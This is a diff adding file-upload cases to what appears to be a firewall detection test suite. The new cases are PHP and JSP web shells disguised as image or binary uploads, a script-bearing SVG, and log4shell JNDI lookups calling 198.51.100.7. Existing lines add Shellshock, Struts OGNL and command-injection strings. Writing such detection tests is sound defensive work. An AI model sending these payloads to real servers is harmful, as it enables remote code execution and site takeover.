@@ -50,6 +50,13 @@ function multipart(name: string, value: string): string {
   return post(`multipart/form-data; boundary=${b}`, body);
 }
 
+/** A multipart body with one uploaded file. */
+function upload(name: string, filename: string, type: string, content: string): string {
+  const b = '----rampartBoundary7MA4YWxk';
+  const body = `--${b}\r\nContent-Disposition: form-data; name="${name}"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--${b}--\r\n`;
+  return post(`multipart/form-data; boundary=${b}`, body);
+}
+
 const CLIENT = '10.0.0.21';
 
 /** Every attack type in every place of a request: [name, request, expected sid, location, field]. */
@@ -88,6 +95,10 @@ const PLACES: readonly [string, string, number, string, string][] = [
   ['Shellshock in the User-Agent', get('/cgi-bin/status').replace(/User-Agent: [^\r]*/, "User-Agent: () { :; }; /bin/bash -c 'id'"), CMDI, 'header', 'user-agent'],
   ['OGNL injection (Struts CVE-2017-5638) in the Content-Type', get('/upload.action', "Content-Type: %{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Check-Struts', 'x')}.multipart/form-data\r\n"), CMDI, 'header', 'content-type'],
   ['PHP code injection: a web shell in a multipart field', multipart('page', "<?php system($_GET['c']); ?>"), CMDI, 'multipart', 'page'],
+  ['a PHP web shell uploaded as a GIF image', upload('avatar', 'me.gif', 'image/gif', "GIF89a;<?php system($_GET['c']); ?>"), CMDI, 'file', 'avatar'],
+  ['a JSP web shell uploaded as a binary file', upload('file', 'cmd.jsp', 'application/octet-stream', '<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>'), CMDI, 'file', 'file'],
+  ['script in an uploaded SVG image', upload('avatar', 'me.svg', 'image/svg+xml', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="5"/></svg>'), XSS, 'file', 'avatar'],
+  ['log4shell in an uploaded CSV file', upload('import', 'users.csv', 'text/csv', 'name,comment\nann,${jndi:ldap://198.51.100.7/a}\n'), LOG4SHELL, 'file', 'import'],
   ['PHP code injection: wapiti\'s exit(md5()) probe in the query', get("/search?q=%27.exit%28md5%28%27w4p1t1_md5%27%29%29%3B%2F%2F"), CMDI, 'query', 'q'],
   ['command injection in a cookie', get('/', 'Cookie: theme=dark%60id%60\r\n'), CMDI, 'cookie', 'theme'],
   ['log4shell in a custom header', get('/', 'X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}\r\n'), LOG4SHELL, 'header', 'x-api-version'],
